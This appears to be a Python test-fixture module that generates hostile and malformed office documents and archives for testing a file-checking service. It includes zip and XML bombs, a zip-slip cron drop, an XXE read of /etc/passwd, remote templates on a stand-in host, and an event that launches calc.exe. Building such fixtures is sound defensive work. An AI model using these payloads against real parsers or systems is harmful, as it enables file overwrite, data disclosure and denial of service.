"""Hostile and awkward office files and archives."""

import io
import warnings
import zipfile

from .images import LAUGHS

PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
POWERPOINT = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SLIDESHOW = "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"
ODF = "urn:oasis:names:tc:opendocument:xmlns:"
TEXT = "application/vnd.oasis.opendocument.text"


def packed(members: dict[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target.getvalue()


def types(kind: str) -> str:
    return f'<Types xmlns="{PACKAGE}content-types"><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'


def office(kind: str = WORD, **more: str | bytes) -> bytes:
    """A small docx, xlsx or pptx; `more` adds members, __ standing for / and _dot_ for a dot."""
    members = {"[Content_Types].xml": types(kind), "word/document.xml": "<document/>"}
    return packed(members | {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()})


def docx() -> bytes:
    return related(("hyperlink", "https://www.legifrance.gouv.fr/"), ("attachedTemplate", "file:///C:\\Modeles\\Note.dotx"))


def related(*links: tuple[str, str]) -> bytes:
    """A docx whose settings point outside."""
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{to}" TargetMode="External"/>'
        for n, (kind, to) in enumerate(links)
    )
    return office(word___rels__settings_dot_xml_dot_rels=f'<Relationships xmlns="{PACKAGE}relationships">{rows}</Relationships>')


def docx_bomb(size: int = 300_000_000) -> bytes:
    """300 MB of zeros in 300 kB."""
    return office(word__media__image_dot_bmp=bytes(size))


def docx_thin_bomb() -> bytes:
    """Under 200 MB, but more than 200 times its size."""
    return docx_bomb(60_000_000)


def docx_of_many_members(count: int = 6_000) -> bytes:
    return office(**{f"word__m{n}": b"" for n in range(count)})


def zip_slip() -> bytes:
    return office(**{"..__..__etc__cron_dot_d__x": "* * * * * root id"})


def zip_twice_the_same_name() -> bytes:
    target = io.BytesIO(office())
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", "<other/>")
    return target.getvalue()


def docm() -> bytes:
    return office(
        WORD.replace("vnd.openxmlformats-officedocument.wordprocessingml.document", "vnd.ms-word.document.macroEnabled")
    )


def docx_with_macros() -> bytes:
    return office(word__vbaProject_dot_bin=b"\xd0\xcf")


def docx_with_activex() -> bytes:
    return office(word__activeX__activeX1_dot_xml="<ocx/>")


def docx_with_ole() -> bytes:
    return office(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf")


def docx_with_remote_template() -> bytes:
    return related(("attachedTemplate", "http://malveillant.example/a.dotm"))


def docx_with_template_on_a_share() -> bytes:
    return related(("attachedTemplate", "file:///\\\\203.0.113.9\\a.dotm"))


def docx_with_external_entity() -> bytes:
    bomb = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Relationships xmlns="{PACKAGE}relationships">&e;</Relationships>'
    )
    return office(_rels___dot_rels=bomb)


def docx_billion_laughs() -> bytes:
    return packed({"[Content_Types].xml": f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><Types>&l9;</Types>'})


def docx_broken() -> bytes:
    return packed({"[Content_Types].xml": "<Types"})


def docx_cut() -> bytes:
    return office(word__media__a_dot_png=bytes(range(256)) * 40)[:-60]


def docx_of_no_kind() -> bytes:
    return office("application/xml")


def docx_and_pdf() -> bytes:
    """A zip whose first member's name makes it a PDF for readers that look into the first kilobyte."""
    return packed({"%PDF-1.7": b"1 0 obj"})


def zip_locked() -> bytes:
    """The flag of an encrypted member set in both headers."""
    whole = bytearray(office())
    whole[6] |= 1
    whole[whole.index(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def zip_of_files() -> bytes:
    return packed({"a.pdf": b"%PDF-1.7", "b.txt": b"b"})


def opendocument(kind: str = TEXT, **parts: str) -> bytes:
    """An odt, ods or odp; `parts` are XML bodies: content, meta, styles, manifest (in META-INF)."""
    spaces = "".join(
        f' xmlns:{p}="{ODF}{p}:1.0"' for p in ("office", "meta", "text", "draw", "script", "presentation", "manifest")
    )
    root = f'<office:document{spaces} xmlns:xlink="http://www.w3.org/1999/xlink">%s</office:document>'
    names = {"manifest": "META-INF/manifest.xml"}
    return packed(
        {
            "mimetype": kind,
            **{names.get(part, f"{part}.xml"): root % body for part, body in ({"content": "<text:p/>"} | parts).items()},
        }
    )


def odt() -> bytes:
    return opendocument(
        meta='<meta:template xlink:href="/home/agent/modele.ott"/>',
        content='<text:a xlink:href="https://www.anct.gouv.fr/">lien</text:a><draw:image xlink:href="Pictures/a.png"/>',
        manifest="<manifest:file-entry/>",
    )


def odt_with_macros() -> bytes:
    return packed({"mimetype": TEXT, "Basic/Standard/Module1.xml": "<m/>"})


def odt_with_event() -> bytes:
    return opendocument(content='<script:event-listener xlink:href="vnd.sun.star.&#115;cript:../a.py$run"/>')


def odt_with_basic_event() -> bytes:
    return opendocument(content='<script:event-listener script:macro-name="a"/>')


def odp_that_launches() -> bytes:
    return opendocument(content='<presentation:event-listener presentation:action="execute" xlink:href="calc.exe"/>')


def odt_with_remote_template() -> bytes:
    return opendocument(meta='<meta:template xlink:href="https://malveillant.example/a.ott"/>')


def odt_with_remote_image() -> bytes:
    return opendocument(content='<draw:image xlink:href="//malveillant.example/a.png"/>')


def odt_locked() -> bytes:
    return opendocument(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>")


def odt_of_no_kind() -> bytes:
    return opendocument("application/x-inconnu")


def epub() -> bytes:
    return packed({"mimetype": "application/epub+zip", "META-INF/container.xml": "<container/>"})


def giant_directory(count: int = 100_000) -> bytes:
    """Nothing but a list of members; a million of them would take more memory than the child process has."""
    row = b"PK\x01\x02" + b"\0" * 24 + b"\x01\0" + b"\0" * 16 + b"a"
    end = b"PK\x05\x06\0\0\0\0" + (0xFFFF).to_bytes(2, "little") * 2 + (len(row) * count).to_bytes(4, "little") + b"\0\0\0\0\0\0"
    return b"PK\x03\x04" + row * count + end
